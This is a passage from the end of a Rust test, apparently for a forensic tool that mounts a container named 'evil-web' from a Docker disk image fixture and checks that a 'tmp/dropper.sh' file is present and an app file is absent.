            &snapshot(from_dir.path(), fields),
        );
    }
    // The issue's own case: Docker 29's evil-web from its E01.
    let e01 = fixtures_dir().join("moby29.disk.E01");
    let m = Mounted::start(&[OsStr::new("evil-web"), e01.as_os_str()]);
    assert!(m.path().join("tmp/dropper.sh").is_file());
    assert!(!m.path().join("srv/app/hello.txt").exists());
}
